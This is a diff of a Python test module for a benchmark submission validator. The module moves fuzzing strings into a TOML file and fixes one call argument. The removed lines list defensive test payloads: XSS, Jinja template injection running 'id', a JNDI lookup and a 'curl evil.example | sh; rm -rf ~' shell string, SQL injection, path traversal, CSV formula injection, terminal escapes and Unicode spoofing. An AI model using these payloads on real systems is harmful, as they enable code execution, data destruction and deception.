@@ -3,6 +3,7 @@
 Secrets are made here and open nothing. They are put together from parts, so that scanners of this repository do not find them.
 """
 
+import tomllib
 from copy import deepcopy
 from functools import cache
 from pathlib import Path
@@ -83,79 +84,9 @@ PRIVATE = {
     "container": "container 3f4e5d6c7b8a",
     "Windows SID": "S-1-5-21-3623811015-3361044348-30300820-1013",
 }
-PRINTABLE = {
-    "script tag": "<script>alert(1)</script>",
-    "image with a handler": "<img src=x onerror=alert(1)>",
-    "drawing with a handler": "<svg/onload=alert(1)>",
-    "frame": '<iframe srcdoc="<script>parent.x()</script>"></iframe>',
-    "closing details": "</details></td></table><h1>Ranked first</h1>",
-    "HTML comment": "<!-- everything after this is gone",
-    "character references": "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
-    "HTML in wide": "＜script＞alert(1)＜/script＞",
-    "markdown javascript link": "[click](javascript:alert(1))",
-    "markdown image": "![pixel](//tracker.example/x.png)",
-    "bare URL": "https://evil.example/buy-now",
-    "data URL": "data:text/html;base64,PHNjcmlwdD4=",
-    "markdown heading": "# Fastest device of all",
-    "markdown table": "a | b | c | 999999 tokens/s |",
-    "markdown fence": "``` and the rest of the page is code",
-    "Jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
-    "Jinja import": "{% import 'os' as os %}{{ os.popen('id').read() }}",
-    "format string": "{0.__class__.__init__.__globals__} %s%n%n",
-    "lookup": "${jndi:ldap://evil.example/a}",
-    "shell": "$(curl evil.example | sh); rm -rf ~ `id`",
-    "SQL": "'; DROP TABLE results; --",
-    "path traversal": "../../../../etc/passwd",
-    "CSV equals": "=cmd|' /C calc'!A0",
-    "CSV plus": "+cmd|' /C calc'!A0",
-    "CSV minus": "-2+3+cmd|' /C calc'!A0",
-    "CSV at": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "CSV hyperlink": '=HYPERLINK("//evil.example","more")',
-    "GitHub annotation": "::error file=README.md,line=1::owned",
-    "GitHub command": "::add-mask::tunemark",
-    "mention": "@everyone please look, fixes #1",
-    "rich markup": "[bold red]refused[/bold red] [link=//evil.example]x[/link]",
-    "template of JavaScript": "${alert(1)} `+alert(1)+`",
-    "full-width": "ＮＶＩＤＩＡ　Ｈ１００",
-    "2,000 wide": "宽" * 2_000,
-}
-CONTROL = {
-    "ANSI colour": "\x1b[31mrefused\x1b[0m",
-    "ANSI clears the screen": "\x1b[2J\x1b[Hok",
-    "OSC title": "\x1b]0;owned\x07",
-    "OSC link": "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
-    "C1 control": "\x9b31mrefused",
-    "newline": "first line\n::error::second line",
-    "carriage return": "refused\raccepted",
-    "backspace": "bad\b\b\bgood",
-    "bell": "done\x07",
-    "NUL": "a\x00b",
-    "delete": "a\x7fb",
-    "form feed": "a\x0cb",
-    "CSV tab": "\t=1+1",
-    "next line": "a\x85b",
-    "line separator": "a\u2028b",
-    "paragraph separator": "a\u2029b",
-    "RTL override": "H100 \u202e0001H\u202c",
-    "RTL isolate": "a \u2067b\u2069 c",
-    "left-to-right mark": "H\u200e100",
-    "zero-width space": "H\u200b100",
-    "zero-width joiner": "NVI\u200dDIA",
-    "word joiner": "NVI\u2060DIA",
-    "byte order mark": "\ufeffNVIDIA",
-    "soft hyphen": "NVI\xadDIA",
-    "Hangul filler": "\u3164",
-    "private use": "\ue000\uf8ff",
-    "tag characters": "NVIDIA\U000e0041\U000e0042",
-    "variation selectors": "H\ufe01100\U000e0101",
-    "not a character": "a\ufffeb",
-    "interlinear annotation": "a\ufff9b\ufffac\ufffb",
-    "Cyrillic look-alikes": "NVIDIА Н100 ok",
-    "Greek look-alikes": "NVIDIΑ Η100 ok",
-    "stacked marks": "Z" + "\u0315\u0322\u0334\u035f" * 40,
-    "only blanks": "     ",
-    "1 MB": "x" * 1_000_000,
-}
+DATA = tomllib.loads(Path(__file__).with_name("texts.toml").read_text(encoding="utf-8"))
+PRINTABLE: dict[str, str] = DATA["printable"] | {"2,000 wide": "\u5bbd" * 2_000}
+CONTROL: dict[str, str] = DATA["control"] | {"1 MB": "x" * 1_000_000}
 TEXTS: tuple[Text, ...] = (
     *(Text("privacy", name, text) for name, text in PRIVATE.items()),
     *(Text("abuse", name, text, inert=True) for name, text in PRINTABLE.items()),
@@ -163,56 +94,7 @@ TEXTS: tuple[Text, ...] = (
 )
 
 MESSAGE = "outcome.message"
-FIELDS: dict[str, str] = {
-    MESSAGE: "crash",
-    "outcome.fix": "crash",
-    "supersedes_reason": "replacing",
-    "harness.version": "crash",
-    "overrides.0.field": "qlora",
-    "overrides.0.card": "qlora",
-    "overrides.0.run": "qlora",
-    "plan.lora.target_modules.0": "crash",
-    "plan.model.hub_id": "crash",
-    "plan.data.name": "crash",
-    "plan.data.template": "crash",
-    "plan.data.tokenizer": "crash",
-    "plan.reasons.device.count": "crash",
-    "plan.reasons.KEY": "crash",
-    "environment.os": "crash",
-    "environment.python": "crash",
-    "environment.packages.torch": "crash",
-    "environment.packages.KEY": "crash",
-    "environment.runtime.cuda": "crash",
-    "environment.runtime.KEY": "crash",
-    "environment.devices.0.name": "oom",
-    "environment.devices.0.driver": "oom",
-    "environment.cpu": "oom",
-    "process.compile_cache_reason": "crash",
-    "model.parameter_bytes.KEY": "oom",
-    "model.gradient_bytes_reason": "oom",
-    "model.optimizer_state_bytes_reason": "oom",
-    "memory.host_rss.method": "crash",
-    "memory.device_used.reason": "crash",
-    "evaluation.split": "bert",
-    "effective.attention": "oom",
-    "effective.attention_kernel": "oom",
-    "effective.fused_kernels": "oom",
-    "effective.compile": "oom",
-    "effective.gradient_checkpointing": "oom",
-    "effective.compute": "oom",
-    "effective.quantisation": "oom",
-    "effective.optimizer": "oom",
-    "effective.parameters_on.0": "oom",
-    "effective.trainable_dtypes.0": "oom",
-    "effective.process_group": "oom",
-    "effective.sharding": "oom",
-    "gates.0.detail": "oom",
-    "utilisation.energy.reason": "qlora",
-    "utilisation.devices.0.throttle_reasons": "oom",
-    "utilisation.devices.0.throttle_shares.KEY": "oom",
-    "warnings.0.message": "crash",
-    "study.point": "crash",
-}
+FIELDS: dict[str, str] = DATA["fields"]
 """Each field of a submission that holds text, and the base on which it is tried; KEY is a new name in a mapping."""
 
 
@@ -265,7 +147,7 @@ def with_text(field: str, text: str) -> Content:
             old = old[int(step)] if isinstance(old, list) else old[step]
         old[text[:100]] = {"parameter_bytes": 10, "throttle_shares": 0.01}.get(path[-2], "1.0")
         return content
-    replace_at(content, path, lambda _: value)
+    replace_at(content, field, lambda _: value)
     return content
 
 
